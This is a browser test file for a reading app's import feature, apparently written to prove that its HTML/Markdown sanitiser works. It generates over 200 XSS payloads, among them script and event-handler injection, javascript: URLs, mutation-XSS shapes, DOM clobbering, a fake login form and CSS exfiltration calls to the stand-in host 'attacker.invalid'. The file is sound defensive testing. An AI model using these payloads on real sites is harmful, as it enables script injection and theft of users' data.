/**
 * Hostile imports: a corpus of well over 200 payloads, generated from families (script tags,
 * event handlers on many elements, javascript:/data:/vbscript: URLs in every URL-bearing spot,
 * SVG, frames and plugins, forms, meta refresh and base, CSS exfiltration, DOM clobbering,
 * HTML in front matter and titles, Markdown links and images, entity and encoding tricks,
 * mutation-XSS shapes), carried in Markdown files, plain text, saved HTML pages, pasted text and
 * notes. Each is imported through the real file input of the import panel (the same code path
 * a reader uses), saved to IndexedDB, listed in the library and rendered in the reader.
 *
 * Nothing may run (a global sentinel is never set, no error is thrown by a payload), no request
 * may leave (no resource timing entry for another host), no CSP violation may be reported, and
 * the rendered DOM must hold no script, frame, plugin, form, event-handler attribute or
 * script URL. The test page has no CSP: these tests prove the sanitising itself.
 */
import { ContextProvider } from '@lit/context';
import { expect, fixture } from '@open-wc/testing';
import { html, render } from 'lit';
import { analysisContext, libraryContext, storageContext } from '../../src/app/contexts.ts';
import { CombinedLibrary, MemoryLibrary } from '../../src/app/library-service.ts';
import { describeRange, hashText } from '../../src/core/anchoring/index.ts';
import type { AnalysisResult } from '../../src/core/types.ts';
import { type Library, openLibraryDb } from '../../src/storage/index.ts';
import '../../src/ui/cl-article-view.ts';
import '../../src/ui/cl-library.ts';
import type { ClLibrary } from '../../src/ui/cl-library.ts';
import { until } from '../ui/mount.ts';

const w = window as unknown as Record<string, unknown>;
const EVIL = 'attacker.invalid';
/** What every payload runs if it ever runs. */
const RUN = `window.__pwned=1`;

// ---- the corpus -------------------------------------------------------------------------

const scriptTags = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script src="https://${EVIL}/x.js"></script>`, `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`, `<script>/*</script><script>*/${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script defer>${RUN}</script>`,
  `<script/src="data:text/javascript,${RUN}"></script>`, `<script>setTimeout("${RUN}")</script>`,
];

const handlerElements = ['img src=x', 'body', 'div', 'a href="#"', 'p', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'select autofocus',
  'textarea autofocus', 'button', 'marquee', 'iframe', 'object data=x', 'embed src=x', 'image src=x', 'svg', 'math', 'table background=x', 'span', 'style',
  'link rel=stylesheet href=x', 'frameset', 'keygen autofocus', 'isindex', 'source src=x', 'track src=x', 'picture', 'section'];
const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onstart'];
const eventHandlers = handlerElements.map((el, i) => `<${el} ${handlers[i % handlers.length]}="${RUN}" ${handlers[(i + 3) % handlers.length]}=${RUN}>x</${el.split(' ')[0]}>`);

const schemes = [`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `jav&#x09;ascript:${RUN}`, `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`, `vbscript:msgbox(1)`, `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`, `data:image/svg+xml,<svg onload="${RUN}"/>`];
const urlSpots = [(u: string) => `<a href="${u}">link</a>`, (u: string) => `<img src="${u}">`, (u: string) => `<form action="${u}"><button>go</button></form>`,
  (u: string) => `<button formaction="${u}">go</button>`, (u: string) => `<iframe src="${u}"></iframe>`, (u: string) => `<object data="${u}"></object>`,
  (u: string) => `<embed src="${u}">`, (u: string) => `<area href="${u}">`, (u: string) => `<svg><a xlink:href="${u}"><text>t</text></a></svg>`,
  (u: string) => `<math href="${u}">m</math>`, (u: string) => `<input type="image" src="${u}">`];
const urls = schemes.flatMap((u) => urlSpots.map((spot) => spot(u)));

const svg = [`<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s">`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`, `<svg><set attributeName="onload" to="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><image href="https://${EVIL}/i.png"/></svg>`, `<svg><style>@import url(https://${EVIL}/s.css)</style></svg>`,
  `<svg><a href="javascript:${RUN}"><rect width=10 height=10 /></a></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`];

const frames = [`<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`, `<iframe src="https://${EVIL}/"></iframe>`, `<object data="https://${EVIL}/x.swf"></object>`,
  `<embed src="https://${EVIL}/x.swf">`, `<applet code="x"></applet>`, `<frame src="https://${EVIL}/">`, `<portal src="https://${EVIL}/"></portal>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`, `<object type="text/html" data="data:text/html,<script>parent.__pwned=1</script>"></object>`, `<fencedframe src="https://${EVIL}/"></fencedframe>`];

const forms = [`<form action="https://${EVIL}/steal"><input name="password" type="password"><button>Log in</button></form>`, `<input autofocus onfocus="${RUN}">`,
  `<form id="__pwned"><input name="attributes"></form>`, `<button form="x" formaction="https://${EVIL}/">b</button>`, `<select><option>o</option></select>`,
  `<textarea>t</textarea><keygen>`, `<form><input type="submit" formaction="javascript:${RUN}"></form>`, `<isindex action="javascript:${RUN}">`];

const metaBase = [`<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`, `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
  `<base href="https://${EVIL}/">`, `<base href="javascript:${RUN}//">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="set-cookie" content="a=b">`, `<link rel="prefetch" href="https://${EVIL}/p">`, `<link rel="import" href="https://${EVIL}/i.html">`];

const cssExfil = [`<style>@import url(https://${EVIL}/a.css);</style>`, `<div style="background:url(https://${EVIL}/b.png)">d</div>`,
  `<link rel="stylesheet" href="https://${EVIL}/c.css">`, `<style>p[title^=a]{background:url(//${EVIL}/leak)}</style>`, `<img src="https://${EVIL}/i.png">`,
  `<video poster="https://${EVIL}/p.png"></video>`, `<picture><source srcset="https://${EVIL}/s.png"><img></picture>`, `<body background="https://${EVIL}/bg.png">`,
  `<table background="https://${EVIL}/t.png"><tr><td>x</td></tr></table>`, `<div style="behavior:url(x.htc);width:expression(${RUN})">e</div>`,
  `<style>@font-face{font-family:x;src:url(https://${EVIL}/f.woff)}</style>`, `<span style="--x:url(https://${EVIL}/v)">v</span>`,
  `<img srcset="https://${EVIL}/1x.png 1x">`, `<input type="image" src="https://${EVIL}/in.png">`, `<audio src="https://${EVIL}/a.mp3" autoplay></audio>`,
  `<a ping="https://${EVIL}/ping" href="https://example.org/">p</a>`];

const clobbering = [`<a id="__pwned">x</a>`, `<form name="__pwned"></form>`, `<img name="getElementById">`, `<a id="defaultView"></a>`, `<form id="attributes"></form>`,
  `<embed name="cookie">`, `<a id="location" href="https://${EVIL}/"></a>`, `<iframe name="__pwned"></iframe>`, `<object id="__pwned"></object>`, `<p id="body">p</p>`];

const markdown = [`[md](javascript:${RUN})`, `[md](JAVASCRIPT:${RUN})`, `[md](<javascript:${RUN}>)`, `![md](javascript:${RUN})`, `![md](https://${EVIL}/md.png)`,
  `[ref][r]\n\n[r]: javascript:${RUN}`, `<javascript:${RUN}>`, `[md](data:text/html,<script>${RUN}</script>)`, `[md](vbscript:msgbox(1))`, `[md](  javascript:${RUN})`,
  `[md](java&#115;cript:${RUN})`, `![md](x" onerror="${RUN})`, `[md](javascript:${RUN} "title")`, `![img][i]\n\n[i]: https://${EVIL}/ref.png`,
  `[a](https://example.org/"onmouseover="${RUN})`, '```html\n<script>' + RUN + '</script>\n```', '`<img src=x onerror=' + RUN + '>`',
  `<details open ontoggle="${RUN}">d</details>`, `[x](\\javascript:${RUN})`, `[x](javascript%3A${RUN})`];

const encoding = [`&lt;script&gt;${RUN}&lt;/script&gt;`, `<img src=x onerror=&#x77;indow.__pwned=1>`, `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:${RUN}">e</a>`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `<scr\u0001ipt>${RUN}</script>`, `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`, `<!--><img src=x onerror=${RUN}>-->`, `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<img """><script>${RUN}</script>">`, `<a href="jav&#x0A;ascript:${RUN}">nl</a>`, `<img src="x` + '`' + `onerror=${RUN}">`,
  `<div/onmouseover='${RUN}'>d</div>`, `<xmp><img src=x onerror=${RUN}></xmp>`, `<plaintext><img src=x onerror=${RUN}>`, `<listing><img src=x onerror=${RUN}></listing>`];

/** Titles, outlets, authors, URLs and dates carried by front matter or meta tags. */
const metadata = [`<img src=x onerror=${RUN}>`, `"><script>${RUN}</script>`, `javascript:${RUN}`, `<svg onload=${RUN}>`, `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`, `<a href="javascript:${RUN}">t</a>`, `</title><script>${RUN}</script>`, `&lt;img src=x onerror=${RUN}&gt;`, `<style>*{background:url(//${EVIL}/t)}</style>`];

const FAMILIES: Record<string, string[]> = { scriptTags, eventHandlers, urls, svg, frames, forms, metaBase, cssExfil, clobbering, markdown, encoding };
const BODY_PAYLOADS = Object.values(FAMILIES).flat();

/** YAML front matter whose every field is hostile, plus YAML-level tricks. */
function frontMatter(i: number): string {
  const m = (k: number) => JSON.stringify(`${metadata[(i + k) % metadata.length]} ${i}`);
  return `---\ntitle: ${m(0)}\noutlet: ${m(1)}\nauthor: ${m(2)}\nurl: ${JSON.stringify(i % 2 ? `javascript:${RUN}` : `https://${EVIL}/"onclick="${RUN}`)}\npublished: 2024-05-0${(i % 9) + 1}\nextra: &a [x]\nmore: *a\n---\n`;
}

/** A saved page whose head and body are hostile. */
function page(i: number, payloads: string[]): string {
  const m = metadata[i % metadata.length];
  return `<!doctype html><html><head><title>${m} ${i}</title><meta property="og:title" content='${m} page ${i}'>
<meta property="og:site_name" content="${m.replace(/"/g, '&quot;')}"><meta name="author" content="${m.replace(/"/g, '&quot;')}">
<link rel="canonical" href="javascript:${RUN}">${metaBase.join('\n')}<script>${RUN}</script></head>
<body onload="${RUN}"><article><h1>Hostile page ${i}</h1><p>A storm reached the coast of the island on Monday, officials said, and ferries stopped running for the day.</p>
${payloads.map((p) => `<p>Paragraph with a payload: ${p}</p>`).join('\n')}
<p>Harbour crews said the damage would be repaired within the week.</p></article></body></html>`;
}

/** The corpus cut into files: each slice goes out as Markdown, as a saved page, and as plain text. */
function corpusFiles(): File[] {
  const files: File[] = [];
  const per = 20;
  for (let i = 0, n = 0; i < BODY_PAYLOADS.length; i += per, n++) {
    const slice = BODY_PAYLOADS.slice(i, i + per);
    files.push(new File([`${frontMatter(n)}\nHostile article ${n}.\n\n${slice.join('\n\n')}\n\nThe last paragraph of the article.\n`], `hostile-${n}.md`));
    files.push(new File([page(n, slice)], `hostile-${n}.html`, { type: 'text/html' }));
    files.push(new File([`${metadata[n % metadata.length]} plain ${n}\n${slice.join('\n')}\n`], `hostile-${n}.txt`));
  }
  return files;
}

// ---- the harness ------------------------------------------------------------------------

let db: Library;
let dbName: string;
const resources: string[] = [];
const violations: string[] = [];
const errors: string[] = [];
const observer = new PerformanceObserver((list) => resources.push(...list.getEntries().map((e) => e.name)));
const onViolation = (e: SecurityPolicyViolationEvent) => violations.push(`${e.violatedDirective} ${e.blockedURI}`);
const onError = (e: ErrorEvent) => errors.push(e.message);

before(() => {
  observer.observe({ type: 'resource', buffered: true });
  document.addEventListener('securitypolicyviolation', onViolation);
  window.addEventListener('error', onError);
});

after(() => {
  observer.disconnect();
  document.removeEventListener('securitypolicyviolation', onViolation);
  window.removeEventListener('error', onError);
});

beforeEach(async () => {
  delete w.__pwned;
  dbName = `hostile-${crypto.randomUUID()}`;
  db = await openLibraryDb(dbName);
});

afterEach(async () => {
  document.body.replaceChildren();
  db.close();
  await new Promise((resolve) => {
    const r = indexedDB.deleteDatabase(dbName);
    r.onsuccess = r.onerror = r.onblocked = resolve;
  });
});

function allElements(root: ParentNode = document.body): Element[] {
  const out: Element[] = [];
  for (const el of root.querySelectorAll('*')) {
    if (root === document.body && el.localName === 'script' && el.parentNode === document.body) continue;
    out.push(el);
    if (el.shadowRoot) out.push(...allElements(el.shadowRoot));
  }
  return out;
}

/** Lets handlers and loads fire, then checks that nothing ran, loaded or survived. */
async function expectInert(what: string): Promise<void> {
  await new Promise((r) => setTimeout(r, 150));
  expect(w.__pwned, `${what}: a payload ran`).to.equal(undefined);
  expect(violations, `${what}: CSP violations`).to.deep.equal([]);
  expect(errors, `${what}: errors thrown (a payload running?)`).to.deep.equal([]);
  const external = [...resources, ...performance.getEntriesByType('resource').map((e) => e.name)].filter((u) => {
    try {
      return new URL(u).host !== location.host;
    } catch {
      return true;
    }
  });
  expect(external, `${what}: requests left the page`).to.deep.equal([]);
  for (const el of allElements()) {
    const tag = el.localName;
    const ownStyle = tag === 'style' && el.parentNode instanceof ShadowRoot && !el.textContent!.includes(EVIL);
    // The import panel's own review and paste forms are the app's; a payload's form is not.
    const ownForm = tag === 'form' && (el.getRootNode() as ShadowRoot).host?.localName === 'cl-import-panel' && !el.hasAttribute('action') && ['paste', ''].includes(el.id);
    expect(['script', 'iframe', 'frame', 'object', 'embed', 'applet', 'form', 'base', 'meta', 'link', 'portal', 'fencedframe', 'svg', 'math'].includes(tag)
      && !ownForm || (tag === 'style' && !ownStyle), `${what}: <${tag}> in the DOM`).to.equal(false);
    for (const attr of el.attributes) {
      expect(/^on/i.test(attr.name), `${what}: ${attr.name} on <${tag}>`).to.equal(false);
      expect(/^\s*(javascript|data|vbscript)\s*:/i.test(attr.value) && ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'poster', 'background'].includes(attr.name),
        `${what}: ${attr.name}=${attr.value}`).to.equal(false);
      // A link to the attacker's site is only a link; anything that would load from it is not allowed.
      const loads = ['src', 'srcset', 'action', 'formaction', 'data', 'poster', 'background', 'style', 'xlink:href', 'ping', 'content'].includes(attr.name) || (attr.name === 'href' && tag !== 'a');
      if (loads) expect(attr.value.includes(EVIL), `${what}: ${attr.name} on <${tag}> points at ${EVIL}`).to.equal(false);
    }
    expect(['__pwned', 'attributes', 'defaultView', 'getElementById', 'cookie', 'location', 'body'].some((n) => el.id === n || el.getAttribute('name') === n),
      `${what}: DOM clobbering by <${tag} id=${el.id}>`).to.equal(false);
  }
}

async function mountLibrary(): Promise<{ el: ClLibrary; library: CombinedLibrary }> {
  const library = new CombinedLibrary(new MemoryLibrary([]), Promise.resolve({ library: db, problem: null }));
  const empty: AnalysisResult = { articles: [], stories: [], entities: [], facts: [], links: [] };
  const host = await fixture<HTMLDivElement>(html`<div></div>`);
  new ContextProvider(host, { context: libraryContext, initialValue: library });
  new ContextProvider(host, { context: analysisContext, initialValue: { result: async () => empty } });
  new ContextProvider(host, { context: storageContext, initialValue: { library: db, problem: null } });
  render(html`<cl-library></cl-library>`, host);
  const el = host.firstElementChild as ClLibrary;
  await until(() => !!el.shadowRoot?.querySelector('cl-import-panel')?.shadowRoot?.querySelector('#files'), 'import controls');
  return { el, library };
}

const panelOf = (el: ClLibrary) => el.shadowRoot!.querySelector('cl-import-panel')!.shadowRoot!;

/** Picks the files in the real input, then saves every review, as a reader would. */
async function importThroughPanel(el: ClLibrary, files: File[]): Promise<string[]> {
  const input = panelOf(el).querySelector<HTMLInputElement>('#files')!;
  const dt = new DataTransfer();
  for (const f of files) dt.items.add(f);
  input.files = dt.files;
  input.dispatchEvent(new Event('change'));
  for (;;) {
    await until(() => !!panelOf(el).querySelector('#review-heading, #report-heading'), 'review or report', 20000);
    if (panelOf(el).querySelector('#report-heading')) break;
    const heading = panelOf(el).querySelector('#review-heading')!.textContent;
    panelOf(el).querySelector<HTMLButtonElement>('button[type="submit"]')!.click();
    await until(() => panelOf(el).querySelector('#review-heading')?.textContent !== heading, 'next review', 5000);
  }
  return [...panelOf(el).querySelectorAll('.outcomes li')].map((li) => li.textContent!.replace(/\s+/g, ' ').trim());
}

describe('hostile imports', () => {
  it('the corpus holds at least 200 payloads across every family', () => {
    const counts = Object.fromEntries(Object.entries(FAMILIES).map(([k, v]) => [k, v.length]));
    expect(BODY_PAYLOADS.length + metadata.length, JSON.stringify(counts)).to.be.at.least(200);
    for (const [family, list] of Object.entries(FAMILIES)) expect(list.length, family).to.be.at.least(8);
  });

  it('Markdown, text and saved pages: nothing runs or loads while importing, listing and reading, and no dangerous DOM remains', async function () {
    this.timeout(120000);
    const { el, library } = await mountLibrary();
    const files = corpusFiles();
    const outcomes = await importThroughPanel(el, files);
    expect(outcomes.filter((o) => /: added$/.test(o)), outcomes.join('\n')).to.have.length(files.length);
    await expectInert('import and review');

    const stored = await db.articles.list();
    expect(stored).to.have.length(files.length);
    await until(() => el.shadowRoot!.querySelectorAll('li').length === files.length, 'all listed');
    for (const a of stored) {
      expect(a.url === null || /^https?:\/\//.test(a.url), `url of ${a.id}`).to.equal(true);
    }
    expect(el.shadowRoot!.textContent).to.contain('<img src=x onerror'); // hostile titles are shown as text
    await expectInert('library list');

    // Each article in the reader, with a hostile note on it.
    for (const a of stored) {
      const start = Math.max(0, a.text.indexOf('the'));
      const now = new Date().toISOString();
      await db.annotations.put({ id: `n-${a.id}`, target: { source: a.id, selectors: describeRange(a.text, start, start + 3), textHash: hashText(a.text) },
        note: BODY_PAYLOADS.slice(0, 30).join('\n\n'), tags: metadata.slice(0, 3), category: 'question', created: now, modified: now, anchor: 'anchored' });
      const host = await fixture<HTMLDivElement>(html`<div></div>`);
      new ContextProvider(host, { context: libraryContext, initialValue: library });
      new ContextProvider(host, { context: storageContext, initialValue: { library: db, problem: null } });
      render(html`<cl-article-view article-id=${a.id}></cl-article-view>`, host);
      const view = host.firstElementChild!;
      await until(() => (view.shadowRoot?.querySelectorAll('.body p').length ?? 0) > 0, `${a.id} rendered`, 5000);
      await until(() => (view.shadowRoot?.querySelector('cl-notes-panel')?.shadowRoot?.querySelectorAll('li.note').length ?? 0) === 1, `${a.id} note`, 5000);
      await expectInert(`reader: ${a.imported.source}`);
      host.remove();
    }
  });

  it('pasted text carrying every payload: nothing runs, loads or remains', async function () {
    this.timeout(60000);
    const { el } = await mountLibrary();
    const panel = el.shadowRoot!.querySelector('cl-import-panel')!;
    await panel.addText(`${frontMatter(3)}\nPasted hostile article.\n\n${BODY_PAYLOADS.join('\n\n')}\n`);
    await until(() => !!panelOf(el).querySelector('#review-heading'), 'review');
    await expectInert('paste review (the clean-up preview shows payloads as text)');
    panelOf(el).querySelector<HTMLButtonElement>('button[type="submit"]')!.click();
    await until(() => !!panelOf(el).querySelector('#report-heading'), 'report');
    await until(() => el.shadowRoot!.querySelectorAll('li').length === 1, 'listed');
    await expectInert('paste');
  });
});
